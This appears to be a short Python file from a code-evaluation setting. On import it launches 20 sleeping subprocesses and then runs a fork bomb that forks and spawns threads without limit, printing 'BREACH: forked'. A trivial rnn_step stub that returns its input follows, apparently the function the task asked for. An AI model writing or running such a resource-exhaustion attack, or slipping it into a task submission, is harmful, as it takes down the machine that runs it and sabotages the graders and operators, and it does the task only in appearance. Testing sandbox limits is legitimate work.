"""Starts processes and threads that start processes and threads."""
import os
import subprocess
import sys
import threading
import time


def bomb():
    while True:
        try:
            os.fork()
            print("BREACH: forked")
        except OSError:
            break
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            break


for _ in range(20):
    try:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"])
    except OSError:
        pass
bomb()


def rnn_step(x, h_prev, U, W, a):
    return h_prev
